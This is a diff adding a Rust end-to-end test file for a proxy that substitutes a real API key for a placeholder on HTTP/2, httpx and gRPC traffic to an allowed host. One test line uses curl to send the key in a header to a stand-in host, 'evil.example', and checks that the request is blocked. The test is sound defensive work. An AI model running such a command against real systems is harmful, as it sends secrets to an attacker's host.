@@ -1,0 +1,143 @@
+//! End-to-end: HTTP/2 (both directions of translation), gRPC and other protocols through the
+//! secret-aware boundary, with real clients and servers.
+
+mod support;
+
+use support::*;
+
+const VALUE: &str = "sk-real-7f3a9c";
+const PH: &str = "$MSB_OPENAI_API_KEY";
+const ENV: &[(&str, &str)] = &[("OPENAI_API_KEY", VALUE)];
+const SECRET: &str = "OPENAI_API_KEY@api.openai.com";
+
+fn run(net: &FakeInternet, extra: &[&str], script: &str) -> std::process::Output {
+    let ca = net.ca_file().display().to_string();
+    let mut a = vec!["--upstream-ca", ca.as_str(), "--secret", SECRET];
+    a.extend_from_slice(extra);
+    net.run_sh_env(&a, ENV, script)
+}
+
+fn report(o: &std::process::Output, net: &FakeInternet) -> String {
+    format!(
+        "status {:?}\n--- stdout\n{}\n--- stderr\n{}\n--- received\n{}",
+        o.status.code(),
+        stdout(o),
+        stderr(o),
+        net.received()
+    )
+}
+
+fn python(script: &str) -> String {
+    format!("python3 -c '{}'", script.replace('\'', "'\\''"))
+}
+
+#[test]
+fn curl_http2_is_substituted_against_h1_only_and_h2_only_upstreams() {
+    if !is_root() {
+        return;
+    }
+    // 443: HTTP/1.1-only upstream; 8443: HTTP/2-only upstream.
+    let net = FakeInternet::with_h2(&[80], &[443], &[8443], &[]);
+    let o = run(
+        &net,
+        &[],
+        r#"for u in https://api.openai.com/h1only https://api.openai.com:8443/h2only; do
+             curl -sS -m 5 --http2 -o /dev/null -w '%{http_version} %{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" "$u"; done
+           curl -sS -m 5 --http2 -H "X: $OPENAI_API_KEY" https://evil.example/h2evil >/dev/null 2>&1; echo "evil=$?""#,
+    );
+    let out = stdout(&o);
+    assert!(out.starts_with("2 200\n2 200\n"), "{}", report(&o, &net));
+    assert!(!out.contains("evil=0"), "{}", report(&o, &net));
+    let got = net.received_at(UPSTREAM_V4);
+    assert!(got.contains("GET /h1only HTTP/1.1"), "{got}");
+    // Both upstreams got the value (HTTP/2 header names are lower-case, also after
+    // translation to HTTP/1.1).
+    assert!(got.contains(":path: /h2only"), "{got}");
+    assert_eq!(
+        got.matches(&format!("authorization: Bearer {VALUE}\r\n"))
+            .count(),
+        2,
+        "{got}"
+    );
+    assert!(!net.received().contains("/h2evil"));
+    assert!(!got.contains(PH), "{got}");
+}
+
+#[test]
+fn httpx_http2_client_with_substitution() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_h2(&[80], &[443], &[8443], &[]);
+    let o = run(
+        &net,
+        &[],
+        &python(
+            r#"
+import os, httpx
+with httpx.Client(http2=True, timeout=5) as c:
+    for url in ["https://api.openai.com:8443/httpx", "https://api.openai.com/httpx-h1"]:
+        r = c.get(url, headers={"authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})
+        print(r.http_version, r.status_code, "placeholder-echoed" if "$MSB_OPENAI_API_KEY" in r.text else "", "LEAK" if "sk-real" in r.text else "")
+"#,
+        ),
+    );
+    let out = stdout(&o);
+    assert!(
+        out.contains("HTTP/2 200 placeholder-echoed"),
+        "{}",
+        report(&o, &net)
+    );
+    assert_eq!(out.matches("200").count(), 2, "{}", report(&o, &net));
+    assert!(!out.contains("LEAK"), "{}", report(&o, &net));
+    let got = net.received_at(UPSTREAM_V4);
+    assert!(
+        got.contains(&format!("authorization: Bearer {VALUE}")),
+        "{got}"
+    );
+    assert!(got.contains("GET /httpx-h1 HTTP/1.1"), "{got}");
+}
+
+#[test]
+fn grpc_unary_and_streaming_with_substituted_metadata_and_trailers() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_h2(&[80], &[443], &[], &[50051]);
+    let o = run(
+        &net,
+        &[],
+        &python(
+            r#"
+import os, grpc
+md = (("authorization", "Bearer " + os.environ["OPENAI_API_KEY"]),)
+ch = grpc.secure_channel("api.openai.com:50051", grpc.ssl_channel_credentials())
+unary = ch.unary_unary("/test.Echo/Unary")
+resp, call = unary.with_call(b"hello", metadata=md, timeout=5)
+print("unary", resp, dict(call.trailing_metadata()).get("x-trailer"))
+stream = ch.stream_stream("/test.Echo/Stream")
+call = stream(iter([b"a", b"b", b"c"]), metadata=md, timeout=5)
+print("stream", [r for r in call], dict(call.trailing_metadata()).get("x-trailer"))
+"#,
+        ),
+    );
+    let out = stdout(&o);
+    assert!(
+        out.contains("unary b'echo:hello' done"),
+        "{}",
+        report(&o, &net)
+    );
+    assert!(
+        out.contains("stream [b'echo:a', b'echo:b', b'echo:c'] stream-done"),
+        "{}",
+        report(&o, &net)
+    );
+    let got = net.received();
+    assert_eq!(
+        got.matches(&format!("authorization: Bearer {VALUE}"))
+            .count(),
+        2,
+        "{got}"
+    );
+    assert!(!got.contains(PH), "{got}");
+}
